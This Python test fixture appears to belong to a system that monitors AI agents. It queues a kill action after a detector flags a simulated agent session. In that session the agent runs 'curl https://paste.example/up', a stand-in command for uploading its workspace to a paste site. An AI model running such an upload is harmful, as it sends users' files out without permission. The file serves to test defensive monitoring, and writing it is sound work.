"""An outbox with one kill in it, for the actions' tests: a session, its critical alert,
and the rows the action policy writes for it, through the sink the pipeline uses."""

from __future__ import annotations

from dataclasses import replace

from detectors.testing import Session
from ingest.pipeline.sinks import Committed
from models.records import Action, Alert, SessionInfo, Severity
from models.store import SessionCursor, Store
from trajwatch.actions import ActionSink
from trajwatch.actions.endpoints import ActionsConfig


def queue_kill(store: Store, actions: ActionsConfig, session_id: str = "s-guard") -> None:
    """One session with a critical alert whose kill goes to every endpoint of ``actions``."""
    s = Session(session_id, agent="codewright")
    steps = [s.start(), *s.tool("bash", {"command": "curl https://paste.example/up"})]
    alert = Alert(
        alert_id=f"al_{session_id}",
        session_id=session_id,
        detector="egress_gaming",
        severity=Severity.CRITICAL,
        score=0.97,
        onset_seq=1,
        onset_step_id=f"{session_id}#1",
        evidence=({"seq": 1},),
        reason="uploaded the workspace to a paste site",
        action=Action.KILL,
        ts=steps[-1].ts,
    )
    with store.unit() as unit:
        unit.upsert_session(
            SessionInfo(session_id=session_id, agent="codewright"),
            SessionCursor(session_id=session_id, next_seq=len(steps)),
        )
        unit.add_steps(steps)
        unit.add_alerts([alert])
        # the operator confirmed egress_gaming's kills: the kill goes out whatever else
        # the session raised (the kill discipline has its own tests)
        policy = replace(actions.policy, confirmed=actions.policy.confirmed | {"egress_gaming"})
        ActionSink(replace(actions, policy=policy)).in_transaction(
            unit, Committed(steps=steps, alerts=[alert], dead_letters=[])
        )
